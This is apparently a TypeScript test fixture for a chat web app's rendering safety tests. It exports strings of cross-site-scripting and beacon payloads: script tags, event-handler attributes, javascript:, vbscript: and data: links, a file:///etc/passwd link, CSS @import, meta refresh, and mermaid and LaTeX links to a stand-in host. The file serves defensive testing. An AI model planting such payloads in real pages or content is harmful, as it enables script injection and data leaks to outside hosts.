// The corpus of "Rendering": texts that would run, load or reach out. Driven in a real browser by e2e/browser/safety.spec.ts (answers,
// questions, titles, files, arguments, shared pages), e2e/browser/told-texts.spec.ts (all that a server and a provider say),
// e2e/browser/rich.spec.ts (formulas and diagrams), e2e/browser/apps.spec.ts and e2e/browser/artifacts.spec.ts (frames), and cut
// anywhere by rendering.test.tsx.

/** Nobody listens there, and every request for it fails the test. */
export const host = "http://tracker.invalid";
export const payload = `Before
![beacon](${host}/pixel.png?leak=1)
![by reference][pic]

<img src="${host}/raw.png" onerror="window.pwned = 1">
<script>window.pwned = 2; alert(1)</script>
<iframe src="${host}/frame"></iframe>
<svg onload="window.pwned = 3"><image href="${host}/svg.png"/></svg>
<a href="javascript:window.pwned = 4" onclick="window.pwned = 5">raw link</a>

[script link](javascript:window.pwned=6) [data link](data:text/html,<script>window.pwned=7</script>)
[VbScript](vbscript:msgbox(1)) [relative](/api/conversations) [file](file:///etc/passwd)
<${host}/auto> and ${host}/bare and [outside](${host}/page "a title")

<details open ontoggle="window.pwned = 8"><summary>x</summary></details>
<style>@import "${host}/style.css"; body { background: url(${host}/bg.png) }</style>
<meta http-equiv="refresh" content="0;url=${host}/refresh">
<link rel="prefetch" href="${host}/prefetch">
<form action="${host}/form"><input name="q"><button>go</button></form>

\`\`\`html
<script src="${host}/in-code.js"></script>
\`\`\`

[pic]: ${host}/reference.png
After`;

/** Formulas and diagrams, some of which cannot be drawn. */
export const richPayload = `The chance is

$$
P(X \\ge 52) = 1 - \\sum_{k=0}^{51} \\frac{\\lambda^k e^{-\\lambda}}{k!}
$$

so \\(\\lambda = 5.1\\) costs $5 and $10, \\(\\href{${host}/a}{x}\\), \\(\\includegraphics{${host}/a.png}\\).

\`\`\`mermaid
flowchart LR
  A[Charge] --> B["<img src='${host}/b.png'>Gateway"] -->|time-out| C[Retry queue]
  click A "${host}/c"
\`\`\`

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${host}/d.css); * { background: url(${host}/e.png) }"}}%%
flowchart LR
  A@{ img: "${host}/f.png", label: "x" } --> B
\`\`\`

\`\`\`mermaid
flowchart LR
  A --> --> nothing [
\`\`\`
`;

/** Short enough for a name, a title or an error. */
export const shortPayload = `"><img src=${host}/t.png onerror=window.pwned=9> ![p](${host}/p.png) [j](javascript:window.pwned=10)`;
